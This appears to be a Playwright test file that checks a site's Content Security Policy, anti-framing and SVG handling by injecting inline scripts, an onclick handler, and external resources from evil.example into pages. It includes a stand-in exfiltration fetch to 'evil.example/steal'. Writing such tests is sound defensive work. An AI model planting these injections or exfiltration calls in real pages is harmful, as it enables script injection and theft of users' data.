import { expect, needsLocalServer, otherCompanyUrl, test } from "./test";

/** What the test below adds to a page, as the browser names it when it refuses it. */
const violations = [
  "connect-src https://evil.example/steal",
  "frame-src https://evil.example",
  "img-src https://evil.example/x.png",
  "script-src-attr inline",
  "script-src-elem https://evil.example/x.js",
  "script-src-elem inline",
  "style-src-elem inline",
];

test.use({ expectedErrors: /Content Security Policy|Failed to load resource/ });

for (const address of ["/", "/edit/"]) {
  test(`what somebody puts into ${address} neither runs nor calls home`, async ({
    page,
    baseURL,
  }) => {
    const isEditor = address === "/edit/";
    if (isEditor) needsLocalServer("only the other company's site has the editor");
    const url = new URL(address, isEditor ? otherCompanyUrl : baseURL).href;
    // The page's own policy protects it also where a host sends no headers.
    await page.route(url, async (route) => {
      const response = await route.fetch();
      const { "content-security-policy": _policy, ...headers } = response.headers();
      await route.fulfill({ response, headers });
    });
    // What the editor itself does is tested in edit.spec.ts.
    await page.route("**/edit/sveltia-cms.js", (route) => route.abort());
    await page.goto(url);
    await page.evaluate(() => {
      const seen: string[] = [];
      Object.assign(window, { seen });
      addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
        seen.push(`${effectiveDirective} ${blockedURI}`);
      });
      const add = (name: string, properties: object) =>
        document.body.append(Object.assign(document.createElement(name), properties));
      add("script", { textContent: "window.hacked = 'inline'" });
      add("script", { src: "https://evil.example/x.js" });
      add("style", { textContent: "body { display: none }" });
      add("div", { innerHTML: `<i onclick="window.hacked = 'attribute'">press</i>` });
      add("img", { src: "https://evil.example/x.png" });
      add("iframe", { src: "https://evil.example/" });
      fetch("https://evil.example/steal").catch(() => {});
    });
    // Some versions of Chromium report an inline handler when it is added, others when it is pressed.
    await page.getByText("press", { exact: true }).dispatchEvent("click");
    const seen = () => page.evaluate(() => Reflect.get(window, "seen").toSorted());
    // The editor's scripts write style elements.
    const allowed = isEditor ? "style-src-elem inline" : "";
    await expect.poll(seen).toEqual(violations.filter((one) => one !== allowed));
    expect(await page.evaluate(() => "hacked" in window)).toBe(false);
  });
}

test("a drawing with a script in it does not run it when its address is opened", async ({
  page,
}) => {
  await page.route("**/images/logo.svg", async (route) => {
    const response = await route.fetch();
    const script = "<script>document.documentElement.id = 'hacked'</script></svg>";
    await route.fulfill({ response, body: (await response.text()).replace("</svg>", script) });
  });
  await page.goto("/images/logo.svg");
  await expect(page.locator("svg:has(script)")).toBeAttached();
  await expect(page.locator("#hacked")).toHaveCount(0);
});

test("no other page can show this one in a frame", async ({ page, baseURL }) => {
  const url = new URL("/", baseURL).href;
  const answer = page.waitForResponse(url);
  // This waits until the frame has loaded as well.
  await page.setContent(`<iframe src="${url}"></iframe>`);
  expect((await answer).status()).toBe(200);
  await expect(page.frameLocator("iframe").locator("#home")).toHaveCount(0);
});
